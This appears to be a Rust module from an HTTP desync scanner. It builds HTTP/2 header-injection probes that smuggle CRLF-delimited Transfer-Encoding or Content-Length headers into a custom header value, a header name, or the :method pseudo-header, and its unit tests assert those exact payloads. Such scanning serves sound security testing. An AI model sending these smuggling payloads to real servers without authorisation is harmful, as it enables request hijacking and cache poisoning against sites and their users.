//! Shared HTTP/2 header-injection templates (spec §4.5 "H2.TE probe"):
//! the same four templates apply to both H2 classes, only the injected
//! name/value pair differs (a Transfer-Encoding token for H2.TE, a
//! Content-Length token for H2.CL).

use desync_core::{HeaderPair, Mutation, Placement, ScanOptions, Target};

pub struct Injection {
    pub extra_headers: Vec<HeaderPair>,
    pub method_override: Option<Vec<u8>>,
}

/// Build the placement-specific injection for one mutation's header
/// name/value pair.
pub fn inject(header_name: &[u8], header_value: &[u8], placement: Placement) -> Injection {
    let name = String::from_utf8_lossy(header_name).into_owned();
    let value = String::from_utf8_lossy(header_value).into_owned();

    match placement {
        Placement::NormalHeader => Injection {
            extra_headers: vec![HeaderPair::new(
                name.to_ascii_lowercase().into_bytes(),
                value.into_bytes(),
            )],
            method_override: None,
        },
        Placement::CustomHeaderValue => Injection {
            extra_headers: vec![HeaderPair::new(
                b"x-custom".to_vec(),
                format!("foo\r\n{name}: {value}").into_bytes(),
            )],
            method_override: None,
        },
        Placement::CustomHeaderName => Injection {
            extra_headers: vec![HeaderPair::new(
                format!("x-custom:foo\r\n{name}").into_bytes(),
                value.into_bytes(),
            )],
            method_override: None,
        },
        Placement::RequestLine => Injection {
            extra_headers: Vec::new(),
            method_override: Some(format!("POST / HTTP/1.1\r\n{name}: {value}\r\nx: x").into_bytes()),
        },
    }
}

/// Assemble the full header list for a malformed-mode H2 request: the four
/// pseudo-headers (with `:method` possibly overridden by a request-line
/// injection), the placement-specific injection, the mutation's own
/// `extra_headers`, then operator-supplied custom headers.
pub fn build_headers(
    target: &Target,
    header_name: &[u8],
    header_value: &[u8],
    mutation: &Mutation,
    placement: Placement,
    options: &ScanOptions,
) -> Vec<HeaderPair> {
    let injection = inject(header_name, header_value, placement);
    let authority = format!("{}:{}", target.host, target.port);
    let method = injection.method_override.unwrap_or_else(|| b"POST".to_vec());

    let mut headers = vec![
        HeaderPair::new(b":method".to_vec(), method),
        HeaderPair::new(b":path".to_vec(), target.path.clone().into_bytes()),
        HeaderPair::new(b":scheme".to_vec(), b"https".to_vec()),
        HeaderPair::new(b":authority".to_vec(), authority.into_bytes()),
    ];
    headers.extend(injection.extra_headers);
    headers.extend(mutation.extra_headers.iter().cloned());
    headers.extend(options.custom_headers.iter().cloned());
    headers
}

/// Render a header list + body as readable bytes for the finding's
/// `raw_request` field. Not the literal HPACK-encoded wire bytes (those are
/// binary and opaque) — a human-readable reconstruction of what was sent,
/// CRLF injections included verbatim so reviewers can see exactly what was
/// smuggled into the header list.
pub fn render_headers(headers: &[HeaderPair], body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for h in headers {
        out.extend_from_slice(&h.name);
        out.extend_from_slice(b": ");
        out.extend_from_slice(&h.value);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normal_header_placement_lowercases_name() {
        let inj = inject(b"Transfer-Encoding", b"chunked", Placement::NormalHeader);
        assert_eq!(inj.extra_headers[0].name, b"transfer-encoding");
        assert_eq!(inj.extra_headers[0].value, b"chunked");
        assert!(inj.method_override.is_none());
    }

    #[test]
    fn custom_header_value_carries_crlf_inside_the_value() {
        let inj = inject(b"Transfer-Encoding", b"chunked", Placement::CustomHeaderValue);
        assert_eq!(inj.extra_headers[0].name, b"x-custom");
        assert_eq!(inj.extra_headers[0].value, b"foo\r\nTransfer-Encoding: chunked");
    }

    #[test]
    fn custom_header_name_carries_crlf_inside_the_name() {
        let inj = inject(b"Transfer-Encoding", b"chunked", Placement::CustomHeaderName);
        assert_eq!(inj.extra_headers[0].name, b"x-custom:foo\r\nTransfer-Encoding");
        assert_eq!(inj.extra_headers[0].value, b"chunked");
    }

    #[test]
    fn request_line_placement_overrides_method_pseudo_header() {
        let inj = inject(b"Transfer-encoding", b"chunked", Placement::RequestLine);
        assert!(inj.extra_headers.is_empty());
        assert_eq!(
            inj.method_override.unwrap(),
            b"POST / HTTP/1.1\r\nTransfer-encoding: chunked\r\nx: x".to_vec()
        );
    }
}
